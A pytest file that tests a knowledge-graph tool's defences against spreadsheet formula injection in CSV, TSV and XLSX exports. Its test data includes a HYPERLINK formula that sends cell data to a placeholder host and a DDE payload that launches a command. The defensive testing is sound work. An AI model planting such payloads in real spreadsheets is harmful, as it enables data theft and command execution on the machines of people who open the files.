"""Tables that people open in a spreadsheet hold no formula, whoever writes them; the protocol's are raw."""

from __future__ import annotations

import ast
import csv
import io
import re
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest

from kg.core.config import Settings
from kg.graph.results import QueryResult
from kg.server import create_app
from kg.service import Service
from kg.service.reports import answer_file
from kg.service.sheets import Sheet, csv_bytes, xlsx_bytes
from kg.ui.results import file_of
from tests.server.client import Client, running
from tests.service.test_reports import ANSWER, Held

ROOT = Path(__file__).parents[1]
TEXTS = (
    '=HYPERLINK("http://x/?"&A1)', "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", "＋1", "－1+1", "＠A1",
    "=cmd|'/c calc'!A1",
)  # fmt: skip
_ESCAPES = str.maketrans({"\\": "\\\\", '"': '\\"', "\t": "\\t", "\r": "\\r"})
_VALUES = " ".join(f'"{text.translate(_ESCAPES)}"' for text in TEXTS)
QUERY = f'SELECT ?x {{ VALUES ?x {{ {_VALUES} "=1+1"^^xsd:integer "=2+2"@zh -5 2.5e3 }} }}'
NUMBERS = {"-5", "2.5e3", "2500.0", "2500"}
_STARTS = tuple("=+-@\t\r\n＝＋－＠")


@pytest.fixture(scope="module")
def service(tmp_path_factory: pytest.TempPathFactory) -> Service:
    folder = tmp_path_factory.mktemp("formulas")
    (folder / "通知.txt").write_text("关于开展质量月活动的通知\n一、举办质量开放日。\n", encoding="utf-8")
    service = Service(Settings(home=folder / "home", embedder="none"))
    assert service.ingest([folder / "通知.txt"])["failed"] == []
    return service


@pytest.fixture(scope="module")
def client(service: Service) -> Client:
    with running(create_app(service)) as client:
        yield client


def cells(data: bytes, format_: str) -> list[str]:
    """What a spreadsheet would see; a TSV cell without its quotation marks, as Excel takes them off."""
    text = data.decode("utf-8-sig")
    if format_ == "csv":
        return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    lines = [cell for line in text.splitlines() for cell in line.split("\t")]
    return [re.sub(r'^"|"(?:\^\^\S*|@\w+)?$', "", cell).replace("\\t", "\t").replace("\\r", "\r") for cell in lines]


def formulas(found: list[str]) -> list[str]:
    return [cell for cell in found if cell.startswith(_STARTS) and cell not in NUMBERS]


def answered(format_: str) -> bytes:
    rows = [{"年份": text, "地区": [text, "浦东新区"]} for text in TEXTS]
    return answer_file(Held(), {**ANSWER, "rows": rows, "question": "=1+1"}, format_)


def app(service: Service, format_: str) -> bytes:
    return file_of(service.query(QUERY), QUERY, service.generation(), format_)


FACES: dict[str, Callable[[Service, str], bytes]] = {
    "command line": lambda service, format_: service.sparql_bytes(QUERY, format_),
    "app": app,
    "answer": lambda _, format_: answered(format_),
    "sheets": lambda _, format_: csv_bytes(TEXTS, [TEXTS]),
}


@pytest.mark.parametrize(
    ("face", "format_"),
    [
        ("command line", "csv"),
        ("command line", "tsv"),
        ("app", "csv"),
        ("app", "tsv"),
        ("answer", "csv"),
        ("sheets", "csv"),
    ],
)
def test_what_people_open_holds_no_formula(service: Service, face: str, format_: str) -> None:
    found = cells(FACES[face](service, format_), format_)
    assert len(found) > len(TEXTS)
    assert formulas(found) == []
    if face in ("app", "command line"):
        assert "-5" in found, "a number stays one"


@pytest.mark.parametrize("face", ["command line", "app", "answer"])
def test_a_workbook_holds_no_formula(service: Service, face: str) -> None:
    book = openpyxl.load_workbook(io.BytesIO(FACES[face](service, "xlsx")))
    kinds = {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row}
    assert kinds <= {"s", "n", "b"}
    texts = {cell.value for sheet in book for row in sheet.iter_rows() for cell in row}
    assert "=1+1" in texts, "as it is written"


def test_a_sheet_of_another_name_holds_no_formula() -> None:
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes([Sheet("表", [list(TEXTS), list(TEXTS)])])))
    assert {cell.data_type for row in book["表"].iter_rows() for cell in row} == {"s"}


@pytest.mark.parametrize(("format_", "media"), [("csv", "text/csv"), ("tsv", "text/tab-separated-values")])
def test_the_protocol_gives_them_raw(client: Client, format_: str, media: str) -> None:
    found = cells(client.query(QUERY, accept=media).content, format_)
    assert "=1+1" in found


def test_a_link_to_a_saved_query_is_guarded(client: Client, monkeypatch: pytest.MonkeyPatch, service: Service) -> None:
    monkeypatch.setattr(Service, "saved_query", lambda *_, **__: QUERY)
    for format_ in ("csv", "tsv"):
        reply = client(f"/api/queries/documents?format={format_}")
        assert reply.status == 200
        assert formulas(cells(reply.content, format_)) == []


def test_only_two_modules_write_tables() -> None:
    """A new place that writes them would not be among the faces above."""
    writers: set[str] = set()
    for path in sorted((ROOT / "kg").rglob("*.py")):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Attribute) and node.attr in {
                "to_csv", "to_excel", "to_clipboard", "to_html", "write_formula", "write_url", "Workbook",
            }:  # fmt: skip
                writers.add(path.relative_to(ROOT).as_posix())
            if isinstance(node, ast.Call) and ast.unparse(node.func) in {"csv.writer", "csv.DictWriter"}:
                writers.add(path.relative_to(ROOT).as_posix())
    assert writers == {"kg/graph/results.py", "kg/service/sheets.py"}


def test_a_number_that_is_none_is_a_text() -> None:
    from kg.graph.rdf import Literal
    from ontology.terms import XSD

    result = QueryResult("select", ("x",), ((Literal("=1", XSD.integer),), (Literal("-1e5", XSD.double),)))
    assert result.serialize("csv", for_people=True).decode().splitlines()[1:] == ["'=1", "-1e5"]
